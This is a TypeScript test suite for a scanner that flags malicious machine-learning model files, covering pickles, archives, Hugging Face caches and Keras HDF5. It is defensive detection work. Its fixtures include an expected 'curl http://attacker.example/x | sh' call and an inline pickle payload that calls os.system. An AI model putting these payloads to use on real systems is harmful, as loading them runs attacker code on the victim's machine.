/**
 * The corpus contract: every malicious fixture is judged malicious, no benign fixture is, and no
 * hostile fixture (truncated, unknown opcodes, broken containers, bombs) is judged safe.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { copyFileSync, mkdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { before, describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { buildCorpus, type Corpus } from "./fixtures/corpus.js";
import { scanModelBytes, scanModelFile, scanModelPath } from "./index.js";

const ORACLE = fileURLToPath(new URL("./fixtures/oracle.py", import.meta.url));

describe("model corpus", () => {
  let corpus: Corpus;
  before(() => {
    corpus = buildCorpus();
  });

  it("has at least 40 malicious variants and 20 benign checkpoints", () => {
    const count = (group: string) => corpus.entries.filter((e) => e.group === group).length;
    assert.ok(count("malicious") >= 90, `malicious: ${count("malicious")}`);
    assert.ok(count("benign") >= 20, `benign: ${count("benign")}`);
    assert.ok(count("hostile") >= 10, `hostile: ${count("hostile")}`);
  });

  it("judges every malicious fixture malicious", async () => {
    const misses: string[] = [];
    for (const e of corpus.entries.filter((x) => x.expect === "malicious")) {
      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
      if (r?.verdict !== "malicious") misses.push(`${e.path}: ${r?.verdict ?? "not a model"}`);
    }
    assert.deepEqual(misses, []);
  });

  it("judges every benign fixture safe", async () => {
    const wrong: string[] = [];
    for (const e of corpus.entries.filter((x) => x.expect === "safe")) {
      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
      if (r?.verdict !== "safe") wrong.push(`${e.path}: ${r?.verdict} ${JSON.stringify(r?.findings)}`);
    }
    assert.deepEqual(wrong, []);
  });

  it("never judges a hostile fixture safe, and says why", async () => {
    const wrong: string[] = [];
    for (const e of corpus.entries.filter((x) => x.expect === "not-safe")) {
      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
      if (!r || r.verdict === "safe" || r.findings.length === 0) wrong.push(`${e.path}: ${r?.verdict}`);
    }
    assert.deepEqual(wrong, []);
  });

  it("is real: CPython reaches a dangerous action loading the malicious pickles, never the benign ones", () => {
    // fixtures/oracle.py unpickles each file (and the pickles its container holds) under an audit
    // hook that blocks processes, file writes, network, string exec/compile and native libraries.
    const files = corpus.entries.filter((e) => e.group !== "hostile").map((e) => join(corpus.dir, e.path));
    const lines = execFileSync("python3", [ORACLE, ...files], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] })
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { path: string; event: string | null });
    const reached = (group: string) =>
      lines.filter((l) => l.event && l.path.startsWith(join(corpus.dir, group))).map((l) => l.path);
    assert.deepEqual(reached("benign"), []);
    // 58 with NumPy installed (numpy.testing runstring), 57 without; the rest are non-pickle formats,
    // calls to callables only the builder fakes, or evasions CPython itself cannot load (see
    // docs/model-scan.md).
    assert.ok(reached("malicious").length >= 57, `only ${reached("malicious").length} malicious fixtures execute`);
  });

  it("reports the reconstructed call and its byte offset", async () => {
    const file = join(corpus.dir, "malicious/reduce-os-system/proto2.pkl");
    const r = await scanModelFile(file, { hash: false });
    const f = r?.findings.find((x) => x.rule === "pickle-dangerous-call");
    assert.equal(f?.detail.startsWith('posix.system("curl http://attacker.example/x | sh")'), true);
    assert.equal(readFileSync(file)[f?.offset ?? -1], "R".charCodeAt(0), "offset points at the REDUCE opcode");
  });

  it("tags findings inside archives with the member path", async () => {
    const r = await scanModelFile(join(corpus.dir, "malicious/archive-nesting/zip-in-tar.tar"), { hash: false });
    assert.equal(r?.findings[0]?.entry, "models/bundle.zip!inner/model.pkl");
  });

  it("identifies a Hugging Face folder from the pickle and config.json", async () => {
    const [r] = await scanModelPath(join(corpus.dir, "benign/hf-folder"));
    assert.equal(r?.format, "pytorch-zip");
    assert.deepEqual(
      { ...r?.identity },
      {
        format: "pytorch-zip",
        parameters: 648,
        source: "pickle",
        quantisation: "float32",
        architecture: "BertModel",
        name: "tiny-bert",
        contextLength: 512,
      },
    );
    assert.match(r?.sha256 ?? "", /^[0-9a-f]{64}$/);
  });

  it("reads GGUF identity: architecture, context, quantisation, licence, parameters", async () => {
    const r = await scanModelFile(join(corpus.dir, "benign/gguf/llama.gguf"), { hash: false });
    assert.equal(r?.identity.architecture, "llama");
    assert.equal(r?.identity.contextLength, 4096);
    assert.equal(r?.identity.quantisation, "Q4_K_M");
    assert.equal(r?.identity.license, "apache-2.0");
    assert.equal(r?.identity.parameters, 4096);
  });
});

describe("folders of mixed files", () => {
  it("skips archives and compressed files that hold no model", async () => {
    const dir = await mkdtemp(join(tmpdir(), "palisade-mixed-"));
    process.once("exit", () => rmSync(dir, { recursive: true, force: true }));
    const script = [
      "import io, sys, tarfile, zipfile, gzip, os",
      "d = sys.argv[1]",
      "with zipfile.ZipFile(os.path.join(d, 'report.docx'), 'w') as z: z.writestr('word/document.xml', '<w/>')",
      "b = io.BytesIO()",
      "with tarfile.open(fileobj=b, mode='w') as t:",
      "    i = tarfile.TarInfo('src/main.py'); data = b'print(1)\\n'; i.size = len(data); t.addfile(i, io.BytesIO(data))",
      "open(os.path.join(d, 'src.tar.gz'), 'wb').write(gzip.compress(b.getvalue()))",
      "open(os.path.join(d, 'notes.txt'), 'w').write('cats are nice\\n')",
    ].join("\n");
    execFileSync("python3", ["-c", script, dir]);
    assert.deepEqual(await scanModelPath(dir), []);
  });
});

describe("large protocol 0 pickles under any name", () => {
  it("reads past the first MiB when the stream goes on, and finds a second pickle there", async () => {
    const benign = `(dp0\nVx\np1\nV${"a".repeat(2 << 20)}\np2\ns.`;
    const evil = "cos\nsystem\n(S'id'\ntR.";
    const r = await scanModelBytes(new TextEncoder().encode(benign + evil), "notes.txt", { hash: false });
    assert.equal(r?.verdict, "malicious");
    assert.equal(r?.findings[0]?.offset, benign.length + 19);
  });
});

describe("Hugging Face cache layout", () => {
  it("follows symbolic links to files (snapshots → blobs) but not links to folders", async () => {
    const corpus = buildCorpus();
    const dir = await mkdtemp(join(tmpdir(), "palisade-hfcache-"));
    process.once("exit", () => rmSync(dir, { recursive: true, force: true }));
    const blobs = join(dir, "blobs");
    const snapshot = join(dir, "snapshots", "abc123");
    mkdirSync(blobs, { recursive: true });
    mkdirSync(snapshot, { recursive: true });
    copyFileSync(join(corpus.dir, "malicious/pytorch-zip/pytorch_model.bin"), join(blobs, "e3b0c442"));
    symlinkSync(join(blobs, "e3b0c442"), join(snapshot, "pytorch_model.bin"));
    symlinkSync(dir, join(snapshot, "loop"));
    const results = await scanModelPath(join(dir, "snapshots"));
    assert.deepEqual(
      results.map((r) => [r.path, r.verdict]),
      [[join(snapshot, "pytorch_model.bin"), "malicious"]],
    );
  });
});

describe("legacy Keras HDF5", () => {
  async function h5(config: unknown): Promise<string> {
    const h5wasm = await import("h5wasm/node");
    await h5wasm.ready;
    const dir = await mkdtemp(join(tmpdir(), "palisade-h5-"));
    process.once("exit", () => rmSync(dir, { recursive: true, force: true }));
    const path = join(dir, "model.h5");
    const file = new h5wasm.File(path, "w");
    if (config) file.create_attribute("model_config", JSON.stringify(config));
    file.create_group("model_weights");
    file.close();
    return path;
  }
  const dense = { class_name: "Dense", config: { name: "dense", units: 4 } };

  it("catches a Lambda layer in model_config", async () => {
    const lambda = {
      class_name: "Lambda",
      config: { name: "evil", function: ["4wEAAAAA", null, null], function_type: "lambda" },
    };
    const r = await scanModelFile(await h5({ class_name: "Sequential", config: { layers: [dense, lambda] } }));
    assert.equal(r?.format, "keras-h5");
    assert.equal(r?.verdict, "malicious");
    assert.equal(r?.findings[0]?.rule, "keras-lambda");
  });

  it("passes a plain Dense model and a weights-only file", async () => {
    const model = await scanModelFile(await h5({ class_name: "Sequential", config: { name: "m", layers: [dense] } }));
    assert.equal(model?.verdict, "safe");
    assert.equal(model?.identity.architecture, "Sequential");
    const weights = await scanModelFile(await h5(undefined));
    assert.equal(weights?.verdict, "safe");
  });
});
